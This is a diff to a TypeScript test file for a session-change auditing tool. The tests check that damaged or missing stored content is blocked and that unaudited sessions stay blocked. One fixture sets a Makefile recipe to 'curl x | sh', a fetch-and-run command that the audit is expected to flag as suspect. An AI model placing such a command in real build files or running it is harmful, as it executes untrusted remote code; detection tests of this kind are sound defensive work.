@@ -3,12 +3,17 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, expect, it } from 'vitest';
 import { DEFAULTS } from '../../../../src/config/settings.ts';
-import { storeDir } from '../../../../src/record/session.ts';
+import { Interrupted } from '../../../../src/errors.ts';
+import { ChangeJudge } from '../../../../src/judging/change-judge.ts';
+import { readCollected, storeDir, writeCollected } from '../../../../src/record/session.ts';
+import { encodeSnapshot } from '../../../../src/scan/snapshot.ts';
+import { auditCollected, auditIfMissing, withoutAudit } from '../../../../src/session/end/audit-collected.ts';
 import { reviewOf } from '../../../../src/session/end/frozen-review.ts';
-import { auditCollected } from '../../../../src/session/end/review-session.ts';
+import type { UserDeps } from '../../../../src/session/start/deps.ts';
 import { openContentStore } from '../../../../src/store/content.ts';
 import type { RelPath } from '../../../../src/text/path.ts';
 import type { Change, Digest, Entry } from '../../../../src/types/entry.ts';
+import type { Finding } from '../../../../src/types/finding.ts';
 import type { SessionRecord } from '../../../../src/types/session.ts';
 
 const sessionDir = mkdtempSync(path.join(tmpdir(), 'run-claude-audited-'));
@@ -26,7 +31,26 @@ const modified = (name: string, before: Entry, after: Entry): Change => ({
   before,
   after,
 });
-const base = { paths: [], read: () => undefined };
+/** A base without entries. */
+const generation = path.join(sessionDir, 'generation');
+mkdirSync(generation);
+const manifest = path.join(generation, 'manifest');
+writeFileSync(manifest, Buffer.concat([...encodeSnapshot({}, new Map())]));
+const audit = async (changes: readonly Change[]): Promise<readonly Finding[]> => {
+  using judge = new ChangeJudge({ store: storeDir(sessionDir), base: { manifest, trees: [] } });
+  return await auditCollected({ changes }, judge, { policy: DEFAULTS }, { endedNs: '1' });
+};
+const record = {
+  id: '261121-140512-k7p',
+  plan: { sessionDir, policy: DEFAULTS, project: {} },
+  workspace: {
+    version: 1,
+    strategy: 'copy',
+    generation,
+    entries: 0,
+    rules: { exclude: [], include: [], mask: [] },
+  },
+} as unknown as SessionRecord;
 
 it('blocks a change whose stored content is missing or damaged, and no other change', async () => {
   const changes = [
@@ -37,8 +61,7 @@ it('blocks a change whose stored content is missing or damaged, and no other cha
     modified('whole.ts', await freeze('5\n'), await freeze('6\n')),
   ];
   const collected = { changes, problems: [], withheld: [], baseEntries: 10 };
-  const audit = () => auditCollected(collected, { sessionDir, policy: DEFAULTS, base });
-  expect(audit()).toEqual([]);
+  expect((await audit(changes)).filter(({ severity }) => severity !== 'note')).toEqual([]);
 
   const digestOf = (name: string, side: 'before' | 'after'): Digest =>
     changes.find((change) => change.path === name)?.[side]?.digest as Digest;
@@ -50,11 +73,10 @@ it('blocks a change whose stored content is missing or damaged, and no other cha
   rmSync(fileOf(digestOf('gone.ts', 'after')));
   rmSync(fileOf(digestOf('old-gone.ts', 'before')));
 
-  const findings = audit();
+  const findings = (await audit(changes)).filter(({ severity }) => severity !== 'note');
   expect(findings.map(({ rule, severity, path: name }) => [name, rule, severity])).toEqual(
     ['damaged.ts', 'emptied.ts', 'gone.ts', 'old-gone.ts'].map((name) => [name, 'unreadable', 'blocked']),
   );
-  const record = { plan: { sessionDir, policy: DEFAULTS } } as unknown as SessionRecord;
   const review = reviewOf(record, { version: 1, ...collected, findings });
   expect(review.items.map(({ change, state }) => [change.path, state])).toEqual(
     changes.map((change) => [change.path, change.path === 'whole.ts' ? 'clean' : 'blocked']),
@@ -66,6 +88,41 @@ it('throws an error of the disk instead of reporting damaged content', async () 
   const digest = change.after?.digest as Digest;
   rmSync(fileOf(digest));
   mkdirSync(fileOf(digest));
-  const collected = { changes: [change], problems: [], withheld: [], baseEntries: 1 };
-  expect(() => auditCollected(collected, { sessionDir, policy: DEFAULTS, base })).toThrow('EISDIR');
+  await expect(audit([change])).rejects.toThrow('EISDIR');
+});
+
+it('blocks every change of a session until its audit is done, and keeps the result of that', async () => {
+  const changes = [
+    modified('a.ts', await freeze('9\n'), await freeze('10\n')),
+    modified('Makefile', await freeze('a:\n\ttrue\n'), await freeze('a:\n\tcurl x | sh\n')),
+  ];
+  const collected = { version: 1, changes, problems: [], withheld: [], baseEntries: 2 } as const;
+  writeCollected(sessionDir, { ...collected, ...withoutAudit(collected, '1') });
+  const states = () => reviewOf(record).items.map(({ change, state }) => [change.path, state]);
+  expect(reviewOf(record).isUnaudited).toBe(true);
+  expect(states()).toEqual([
+    ['a.ts', 'blocked'],
+    ['Makefile', 'blocked'],
+  ]);
+  const told: string[] = [];
+  const interrupted = {
+    tell: () => undefined,
+    interruption: { next: () => AbortSignal.abort(new Interrupted('SIGINT')) },
+  };
+  await expect(auditIfMissing(record, interrupted as unknown as UserDeps)).rejects.toThrow('SIGINT');
+  expect(reviewOf(record).isUnaudited).toBe(true);
+  const deps = {
+    tell: (event: object) => void told.push(JSON.stringify(event)),
+    interruption: { next: () => new AbortController().signal },
+  } as unknown as UserDeps;
+  await auditIfMissing(record, deps);
+  expect(told).toHaveLength(1);
+  expect(readCollected(sessionDir).unaudited).toBeUndefined();
+  expect(reviewOf(record).isUnaudited).toBe(false);
+  expect(states()).toEqual([
+    ['a.ts', 'clean'],
+    ['Makefile', 'suspect'],
+  ]);
+  await auditIfMissing(record, deps);
+  expect(told).toHaveLength(1);
 });
